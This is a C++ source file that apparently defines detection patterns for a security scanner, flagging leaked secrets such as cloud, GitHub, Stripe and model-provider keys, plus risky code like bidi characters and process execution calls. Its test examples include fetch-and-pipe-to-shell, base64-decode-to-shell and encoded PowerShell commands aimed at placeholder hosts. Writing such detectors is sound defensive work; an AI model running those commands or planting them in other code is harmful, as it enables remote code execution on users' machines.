#include "jobs/probe/patterns.h"

#include <algorithm>

namespace sallyport::jobs {
namespace {

constexpr std::string_view kRevoke = "Revoke it, remove it from the history, and keep it in a secret store";
constexpr std::string_view kRead = "Read what the text really says, and remove the characters";
constexpr std::string_view kDropper = "Read what is fetched before it runs, or pin it by its digest";
constexpr std::string_view kCalls = "Make sure that no input reaches it, or use a call without a shell";

// Secrets in the examples are put together from two literals, so that no scanner takes this file for a leak.
constexpr auto kPatterns = std::to_array<Pattern>({
    {"aws-access-key",
     PatternKind::kSecret,
     Severity::kCritical,
     R"(\b(?:AKIA|ASIA)[0-9A-Z]{16}\b)",
     {"AKIA", "ASIA"},
     "an access key of AWS",
     kRevoke,
     {"key = AKIA"
      "IOSFODNN7EXAMPLE",
      "'ASIA"
      "Y34FZKBOKMUTVV7A'"},
     {"AKIAnotakey", "the prefix AKIA alone"}},
    {"github-token",
     PatternKind::kSecret,
     Severity::kCritical,
     R"(\b(?:gh[pousr]_[A-Za-z0-9]{36,255}|github_pat_[A-Za-z0-9_]{22,255})\b)",
     {"ghp_", "gho_", "ghu_", "ghs_", "ghr_", "github_pat_"},
     "a token of GitHub",
     kRevoke,
     {"token: ghp_"
      "16C7e42F292c6912E7710c838347Ae178B4a",
      "github_pat_"
      "11AAAAAAA0abcdefghijklmnop"},
     {"ghp_short", "highp_precision"}},
    {"gitlab-token",
     PatternKind::kSecret,
     Severity::kCritical,
     R"(\bglpat-[0-9A-Za-z_-]{20,64})",
     {"glpat-"},
     "a token of GitLab",
     kRevoke,
     {"glpat-"
      "ABCDEFGHij0123456789",
      "x=glpat-"
      "zzzzzzzzzzzzzzzzzzzz1"},
     {"glpat-", "glpat-short"}},
    {"slack-token",
     PatternKind::kSecret,
     Severity::kHigh,
     R"(\bxox[abeprs]-[0-9A-Za-z-]{10,250})",
     {"xox"},
     "a token of Slack",
     kRevoke,
     {"xoxb-"
      "123456789012-abcdefghij",
      "xoxp-"
      "1111111111-2222222222"},
     {"xoxb", "foxox-toys"}},
    {"private-key",
     PatternKind::kSecret,
     Severity::kCritical,
     R"(-----BEGIN (?:[A-Z]{2,9} ){0,2}PRIVATE KEY(?: BLOCK)?-----)",
     {"-----BEGIN "},
     "a private key",
     kRevoke,
     {"-----BEGIN RSA "
      "PRIVATE KEY-----",
      "-----BEGIN "
      "PRIVATE KEY-----"},
     {"-----BEGIN CERTIFICATE-----", "-----BEGIN PUBLIC KEY-----"}},
    {"google-api-key",
     PatternKind::kSecret,
     Severity::kHigh,
     R"(\bAIza[0-9A-Za-z_-]{35}\b)",
     {"AIza"},
     "an API key of Google",
     kRevoke,
     {"AIza"
      "SyA1234567890abcdefghijklmnopqrstuv",
      "key=AIza"
      "SyB1234567890ABCDEFGHIJKLMNOPQRSTUV"},
     {"AIzaShort", "AIza"}},
    {"stripe-key",
     PatternKind::kSecret,
     Severity::kCritical,
     R"(\b[rs]k_live_[0-9A-Za-z]{16,247}\b)",
     {"sk_live_", "rk_live_"},
     "a live key of Stripe",
     kRevoke,
     {"sk_live_"
      "4eC39HqLyjWDarjtT1zdp7dc",
      "rk_live_"
      "abcdef0123456789ABCD"},
     {"sk_test_4eC39HqLyjWDarjtT1zdp7dc", "risk_live_long"}},
    {"npm-token",
     PatternKind::kSecret,
     Severity::kCritical,
     R"(\bnpm_[A-Za-z0-9]{36}\b)",
     {"npm_"},
     "a token of npm",
     kRevoke,
     {"npm_"
      "abcdefghijklmnopqrstuvwxyz0123456789",
      "//r/:_authToken=npm_"
      "ABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789"},
     {"npm_config_ignore_scripts", "npm_lifecycle_event"}},
    {"model-key",
     PatternKind::kSecret,
     Severity::kCritical,
     R"(\bsk-(?:ant-|proj-)?[A-Za-z0-9_-]{32,200}\b)",
     {"sk-"},
     "a key of a model provider",
     kRevoke,
     {"sk-ant-"
      "api03-abcdefghijklmnopqrstuvwxyz012345",
      "sk-"
      "abcdefghijklmnopqrstuvwxyz0123456789ABCD"},
     {"task-list", "sk-short"}},
    {"json-web-token",
     PatternKind::kSecret,
     Severity::kMedium,
     R"(\beyJ[A-Za-z0-9_-]{10,4096}\.eyJ[A-Za-z0-9_-]{10,4096}\.[A-Za-z0-9_-]{10,1024})",
     {"eyJ"},
     "a signed token",
     kRevoke,
     {"eyJ"
      "hbGciOiJIUzI1NiJ9.eyJ"
      "zdWIiOiIxMjM0NTY3ODkwIn0.dozjgNryP4J3jVmNHl0w5N_XgL0n3I9P",
      "Bearer eyJ"
      "0eXAiOiJKV1QifQ0.eyJ"
      "pc3MiOiJqb2UifQ00.abcdefghijkl"},
     {"eyJhbGciOiJIUzI1NiJ9", "eyJ.eyJ.x"}},
    {"url-with-credentials",
     PatternKind::kSecret,
     Severity::kHigh,
     R"((?:https?|ftp|ssh|git|postgres(?:ql)?|mysql|mongodb(?:\+srv)?|redis|amqps?)://[^\s/:@'"<>{}$]{1,64}:[^\s/@'"<>{}$]{3,128}@[A-Za-z0-9])",
     {"http", "ftp:", "ssh:", "git:", "postgres", "mysql:", "mongodb", "redis:", "amqp"},
     "a URL that holds a password",
     kRevoke,
     {"https://user:"
      "hunter2secret@example.org/x",
      "postgres://app:"
      "s3cr3tpass@db/main"},
     {"https://example.org:8080/x", "https://user:${PASSWORD}@example.org"}},
    {"fetch-to-shell",
     PatternKind::kCode,
     Severity::kHigh,
     R"(\b(?:curl|wget)\b[^\n|;]{1,200}\|\s*(?:sudo\s+)?(?:ba|z|da|k)?sh\b)",
     {"curl", "wget"},
     "what a server sends is run by a shell",
     kDropper,
     {"curl -fsSL https://x.example/i.sh | sh", "wget -qO- x.example | sudo bash"},
     {"curl -o file https://x.example", "wget x | tee sha.txt"}},
    {"decode-to-shell",
     PatternKind::kCode,
     Severity::kHigh,
     R"(\bbase64\s+(?:-d|-D|--decode)\b[^\n]{0,80}\|\s*(?:ba|z|da|k)?sh\b)",
     {"base64"},
     "hidden text is run by a shell",
     kDropper,
     {"echo aGk= | base64 -d | sh", "base64 --decode x | bash"},
     {"base64 -d file > out", "base64 -w0"}},
    {"install-script",
     PatternKind::kCode,
     Severity::kHigh,
     R"("(?:pre|post)?install"\s*:\s*"[^"\n]{0,400}(?:curl|wget|node\s+-e|base64|powershell|eval)\b[^"\n]{0,400}")",
     {"\"install\"", "\"preinstall\"", "\"postinstall\""},
     "an install script fetches or hides what it runs",
     kDropper,
     {R"("postinstall": "node -e 'x'")", R"("preinstall":"curl x.example|sh")"},
     {R"("postinstall": "node build.js")", R"("install": "make")"}},
    {"powershell-encoded",
     PatternKind::kCode,
     Severity::kHigh,
     R"((?i:powershell)(?:\.exe)?[^\n]{0,80}\s-(?i:e|enc|encodedcommand)\s+[A-Za-z0-9+/=]{20,})",
     {"powershell"},
     "hidden text is run by PowerShell",
     kDropper,
     {"powershell -enc SQBFAFgAIAAoAE4AZQB3AC0A", "PowerShell.exe -NoP -e SQBFAFgAIAAoAE4AZQB3AC0A"},
     {"powershell -File x.ps1", "powershell -e short"}},
    {"bidi-character",
     PatternKind::kCode,
     Severity::kHigh,
     R"([\x{202A}-\x{202E}\x{2066}-\x{2069}])",
     {"\xE2\x80\xAA", "\xE2\x80\xAB", "\xE2\x80\xAC", "\xE2\x80\xAD", "\xE2\x80\xAE", "\xE2\x81"},
     "a character reorders the text around it",
     kRead,
     {"if (a\xE2\x80\xAE ", "x \xE2\x81\xA6 y"},
     {"plain", "\xC3\xA4\xE2\x82\xAC"}},
    {"invisible-character",
     PatternKind::kCode,
     Severity::kMedium,
     R"([\x{200B}\x{180E}\x{E0001}-\x{E007F}]|[^\n]\x{FEFF})",
     {"\xE2\x80\x8B", "\xE1\xA0\x8E", "\xF3\xA0"},
     "a character that nobody sees",
     kRead,
     {"a\xE2\x80\x8B"
      "b",
      "tag \xF3\xA0\x81\x81"},
     {"plain", "\xE2\x80\x99quote"}},
    {"php-exec",
     PatternKind::kCode,
     Severity::kMedium,
     R"(\b(?:shell_exec|passthru|proc_open|pcntl_exec)\s*\()",
     {"shell_exec", "passthru", "proc_open", "pcntl_exec"},
     "PHP starts a process",
     kCalls,
     {"shell_exec($cmd)", "proc_open ($a, $b)"},
     {"my_shell_execute(", "passthru"}},
    {"java-exec",
     PatternKind::kCode,
     Severity::kMedium,
     R"(\bRuntime\.getRuntime\(\)\s*\.\s*exec\s*\()",
     {"runtime.getruntime"},
     "Java starts a process",
     kCalls,
     {"Runtime.getRuntime().exec(cmd)", "Runtime.getRuntime() .exec (x)"},
     {"Runtime.getRuntime().gc()", "getRuntime().exec"}},
});

char lower(char c) { return c >= 'A' && c <= 'Z' ? static_cast<char>(c - 'A' + 'a') : c; }

bool begins_with(std::string_view text, std::string_view beginning) {
  return text.size() >= beginning.size() && std::ranges::equal(text.substr(0, beginning.size()), beginning,
                                                               [](char a, char b) { return lower(a) == lower(b); });
}

}  // namespace

std::span<const Pattern> curated_patterns() { return kPatterns; }

const Pattern* pattern_of_match(std::string_view match) {
  for (const Pattern& pattern : kPatterns) {
    for (const std::string_view beginning : pattern.beginnings) {
      if (!beginning.empty() && begins_with(match, beginning)) return &pattern;
    }
  }
  // What comes before an inner byte order mark is any character.
  if (match.ends_with("\xEF\xBB\xBF")) {
    return &*std::ranges::find(kPatterns, std::string_view("invisible-character"), &Pattern::id);
  }
  return nullptr;
}

}  // namespace sallyport::jobs
